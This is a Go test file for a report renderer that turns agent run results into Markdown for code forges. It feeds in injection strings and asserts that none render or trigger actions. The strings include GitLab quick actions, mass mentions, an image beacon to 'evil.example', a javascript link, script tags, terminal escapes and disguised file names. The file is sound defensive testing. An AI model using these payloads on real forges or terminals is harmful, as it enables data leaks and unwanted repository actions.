package report

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/writbot/writ/compliance/internal/visible"
	"github.com/writbot/writ/kernel"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/text"
)

// attacks are texts that do something when a forge renders or reads them.
var attacks = []string{
	"/close", "\n/close\n", "/label ~x\n/assign @all", "```\n/close\n```", "````\n/close\n````", "~~~\n/close", "\r/close", "\u2028/close",
	"@org/all", "cc @everyone", "![x](https://evil.example/?q=canary)", "<img src=https://evil.example/x>", "[x](javascript:alert(1))",
	"</details></div><details open><summary>x", "<!-- -->", "-->", "<script>x</script>", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u009b31m", "a\rb", "a\x08\x08",
	"Fixes #99", "closes org/repo#9", "Resolves GH-9", "Implements !3", "Fixes https://x.example/o/r/issues/9", "#1 !2 ~3 %4 $5 &6",
	"\u202etxt.exe", "a\u200bb", "\xff\xfe", "| a | b |\n|---|---|", "# heading", "- [ ] task", "    code", "***", "`", "``", "| ```", "\\",
	strings.Repeat("`", 500), strings.Repeat("x", 100_000), strings.Repeat("/close\n", 5000),
}

func hostile() Report {
	r := failed()
	for i, a := range attacks {
		if len(a) > 1000 {
			continue
		}
		a = strings.ToValidUTF8(a, "\uFFFD")
		r.ChangedFiles = append(r.ChangedFiles, a)
		r.Discarded = append(r.Discarded, a)
		r.Violations = append(r.Violations, kernel.Violation{Code: kernel.CodeScopeOutside, Subject: a, Detail: a})
		r.Notes, r.Warnings = append(r.Notes, a), append(r.Warnings, a)
		if i%8 == 0 {
			r.Outputs = append(r.Outputs, Output{a, a})
		}
	}
	r.Builder, r.ContractSource, r.RunID = "`x` @all /close\n/close", "a`b\n/close", "``\n/close"
	return r
}

// TestF1_NothingRendersFromUntrustedText puts each attack into each place and
// looks at what a renderer would make of it.
func TestF1_NothingRendersFromUntrustedText(t *testing.T) {
	for _, a := range attacks {
		r := failed()
		r.ChangedFiles, r.Discarded, r.Notes, r.Warnings = []string{a}, []string{a}, []string{a}, []string{a}
		r.Violations = []kernel.Violation{{Code: kernel.CodeScopeOutside, Subject: a, Detail: a}}
		r.Outputs = []Output{{a, a}, {"check", "before\n" + a + "\nafter"}}
		r.Checks = []Check{{a, true, 1, true, 0, nil}}
		r.Builder, r.Sandbox, r.ContractSource, r.RunID, r.NotBefore, r.WaitingFor = a, a, a, a, a, a
		r.Held = &Held{a, a}
		r.Agent = &kernel.Agent{Kind: a, Version: a, Model: a, Message: a}
		md := Markdown(r)
		checkInert(t, a, md)
		for i, c := range Plain(r) {
			if c != '\n' && c != '\t' && visible.Hidden(c) {
				t.Errorf("%.40q: U+%04X at %d in the plain text", a, c, i)
				break
			}
		}
	}
	checkInert(t, "all", Markdown(hostile()))
}

// gitlabCode is how a forge finds code before it looks for quick actions: the
// first line that is nothing but three backticks ends it.
var gitlabCode = regexp.MustCompile("(?ms)^```.+?\n```$")

func checkInert(t *testing.T, name, md string) {
	t.Helper()
	if utf8.RuneCountInString(md) > MaxMarkdown || !utf8.ValidString(md) {
		t.Errorf("%.40q: %d characters", name, utf8.RuneCountInString(md))
	}
	for _, text := range []string{md, gitlabCode.ReplaceAllString(md, "")} {
		if regexp.MustCompile(`(?m)^\s*/[a-z]`).MatchString(text) {
			t.Errorf("%.40q: a line begins with a slash", name)
		}
	}
	if regexp.MustCompile(`(?i)\b(fix(es)?|closes|resolves|implements)\b[:\s]+([\w/.-]*[#!]\d|gh-\d|https?://)`).MatchString(md) {
		t.Errorf("%.40q: a reference after a closing keyword", name)
	}
	src := []byte(md)
	_ = ast.Walk(goldmark.DefaultParser().Parse(text.NewReader(src)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		switch n := n.(type) {
		case *ast.HTMLBlock:
			if html := string(n.Lines().Value(src)); !slices.Contains([]string{"<details>\n<summary>" + lastMessage + "</summary>\n", "</details>\n"}, html) {
				t.Errorf("%.40q: the HTML %q", name, html)
			}
		case *ast.RawHTML, *ast.Image, *ast.Link, *ast.AutoLink, *ast.CodeBlock, *ast.Blockquote:
			t.Errorf("%.40q: a %s is rendered", name, n.Kind())
			return ast.WalkStop, nil
		case *ast.Text:
			if p := n.Parent().Kind(); entering && p != ast.KindCodeSpan && strings.ContainsAny(string(n.Segment.Value(src)), "@#~!<>[]") {
				t.Errorf("%.40q: text outside code: %q", name, n.Segment.Value(src))
			}
		}
		return ast.WalkContinue, nil
	})
}

func TestF1_SizeCap(t *testing.T) {
	r := failed()
	for range 40 {
		r.Outputs = append(r.Outputs, Output{"check", strings.Repeat("é line\n", 2000)})
	}
	md := Markdown(r)
	checkInert(t, "long", md)
	if !strings.HasSuffix(md, "in the task's evidence.\n") {
		t.Errorf("no note at the end: %q", md[len(md)-80:])
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"a\x1b[1;31mb\x1b[0mc": "abc", "a\x1b]8;;http://x\x07b": "ab", "a\x1b]0;t\x1b\\b": "ab", "a\r\nb\rc": "a\nb\nc", "a\x00b": `a\x00b`,
		"a\x1b": `a\x1b`, "tab\t": "tab\t", "\u202e": `\u202e`, "\U000e0041": `\U000e0041`, "\xff": "\uFFFD", "é 👩": "é 👩",
	} {
		if got := Clean(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// TestF1_NamesOfFiles: two files never have the same name in a report, also where
// something is made of their names that keeps a forge from reading them.
func TestF1_NamesOfFiles(t *testing.T) {
	names := []string{"d/a b.txt", "d/a  b.txt", "d/a\u00a0b.txt", "d/a\u2003b.txt", "d/a\u3000b.txt", "d/a\tb.txt", "d/a", "d/a\u3000", "d/a ", " d/a",
		"d/.txt", "d/\x1b[31m.txt", `d/\x1b[31m.txt`, "d/\\u{1b}", "d/\u202e", "d/fix #1", "d/fix # 1", `d/fix \x231`, "d/close gh-1", "d/close gh- 1", "d/close GH-1", "d/closes !1"}
	lines := func(r Report) map[string]bool {
		out := map[string]bool{}
		for line := range strings.SplitSeq(Markdown(r), "\n") {
			if line = strings.TrimSuffix(strings.TrimPrefix(line, "| "), ": It is."); strings.Contains(line, "d/") {
				out[line] = true
			}
		}
		return out
	}
	plain := completed()
	plain.ChangedFiles, plain.Discarded = nil, nil
	changed, differing, violating, discarded := plain, plain, plain, plain
	changed.ChangedFiles, differing.Merge = names, &Merge{Differs: names}
	for _, n := range names {
		shown := visible.Path(n)
		violating.Violations = append(violating.Violations, kernel.Violation{Code: kernel.CodeScopeOutside, Subject: shown, Detail: "It is."})
		discarded.Discarded = append(discarded.Discarded, shown)
	}
	for what, r := range map[string]Report{"changed": changed, "differing": differing, "violating": violating, "discarded": discarded} {
		if got := lines(r); len(got) != len(names) || !r.Escapes() {
			t.Errorf("%s: %d names of %d: %v", what, len(got), len(names), got)
		}
		checkInert(t, what, Markdown(r))
	}
	said := completed()
	if said.Notes = []string{"a\u200bb"}; !said.Escapes() {
		t.Error("a note that shows a character by an escape has none")
	}
	if completed().Escapes() || failed().Escapes() {
		t.Error("a report without such names counts as one with escapes")
	}
}
